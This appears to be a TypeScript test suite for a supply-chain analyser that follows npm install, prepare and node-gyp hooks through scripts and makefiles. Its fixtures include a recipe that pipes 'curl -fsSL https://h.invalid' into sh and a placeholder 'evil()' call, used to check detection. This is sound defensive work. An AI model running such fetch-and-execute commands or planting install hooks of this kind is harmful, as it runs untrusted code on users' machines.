import assert from 'node:assert/strict';
import { installHooks } from '../../../../server/src/artifacts/analysis/files/install-hooks.js';
import { packageOf } from '../../../support/artifacts.js';

const json = (value: object): string => JSON.stringify(value);

function hooksOf(files: Readonly<Record<string, string>>) {
  const { commands, files: started, code } = installHooks(packageOf(files).files);
  return {
    commands: commands.map(({ file, name, text }) => `${file} ${name}: ${text}`),
    files: started.map(({ path, by }) => `${by} ${path}`),
    code: code.map(({ code: text }) => text),
  };
}

describe('installHooks', () => {
  it('follows scripts to the files and the code that they start', () => {
    const scripts = {
      preinstall: 'start /B node pre & node ./pre.js',
      postinstall: 'npm run setup --silent || true',
      setup: `bash scripts/setup.sh && node -r ./hook.js -e "evil()"`,
      test: 'node test.js',
    };
    const given = {
      'package.json': json({ scripts }),
      'pre.js': '',
      'hook.js': '',
      'test.js': '',
      'scripts/setup.sh': '',
    };
    assert.deepEqual(hooksOf(given), {
      commands: [
        'package.json preinstall: start /B node pre & node ./pre.js',
        'package.json postinstall: npm run setup --silent || true',
        `package.json postinstall > setup: bash scripts/setup.sh && node -r ./hook.js -e "evil()"`,
      ],
      files: ['node pre.js', 'node pre.js', 'shell scripts/setup.sh', 'node hook.js'],
      code: ['evil()'],
    });
  });

  it('follows make to the commands that a makefile has for the targets', () => {
    const given = {
      'package.json': json({ scripts: { install: 'make -s -j 4 -Cnative fetch CC=clang || true' } }),
      'native/Makefile': 'all:\n\tcc -c a.c\nfetch: get\n\t@$(MAKE) -f more.mk\nget:\n\tnode get.js',
      'native/more.mk': 'more:\n\tcurl -fsSL https://h.invalid | sh',
      'native/get.js': '',
    };
    assert.deepEqual(hooksOf(given), {
      commands: [
        'package.json install: make -s -j 4 -Cnative fetch CC=clang || true',
        'native/Makefile install > make: node get.js\nmake -f more.mk\n',
        'native/more.mk install > make > make: curl -fsSL https://h.invalid | sh\n',
      ],
      files: ['node native/get.js'],
      code: [],
    });
  });

  it('ends with makefiles that make themselves', () => {
    const given = {
      'package.json': json({ scripts: { install: 'make' } }),
      Makefile: 'all:\n\t$(MAKE) all\n\tmake -f Makefile -C .',
    };
    assert.equal(hooksOf(given).commands.length, 2);
  });

  it('ends with scripts that run each other', () => {
    const scripts = { install: 'npm run a', a: 'npm run b', b: 'true && npm run a' };
    assert.equal(hooksOf({ 'package.json': json({ scripts }) }).commands.length, 3);
  });

  it('counts prepare, which git dependencies run, and node-gyp', () => {
    const given = {
      'package.json': json({ scripts: { prepare: 'node build' } }),
      'build/index.js': '',
      'binding.gyp': `{"targets":[{"sources":["<!(node lib/x.js > /dev/null && echo a.c)"]}]}`,
      'lib/x.js': '',
    };
    assert.deepEqual(hooksOf(given).files, ['node build/index.js', 'node lib/x.js']);
  });

  it('looks into the packages that are installed with it, and into no others', () => {
    const hook = json({ scripts: { postinstall: 'node s.js' } });
    const given = {
      'package.json': json({ dependencies: { core: 'file:./vendor/core', link: './linked' } }),
      'vendor/core/package.json': hook,
      'vendor/core/s.js': '',
      'linked/package.json': hook,
      'linked/s.js': '',
      'node_modules/@a/b/package.json': hook,
      'node_modules/@a/b/s.js': '',
      'templates/app/package.json': hook,
      'templates/app/s.js': '',
    };
    assert.deepEqual(hooksOf(given).files, [
      'node vendor/core/s.js',
      'node linked/s.js',
      'node node_modules/@a/b/s.js',
    ]);
  });

  it('finds nothing where nothing can be read', () => {
    assert.deepEqual(hooksOf({ 'package.json': '{' }), { commands: [], files: [], code: [] });
  });
});
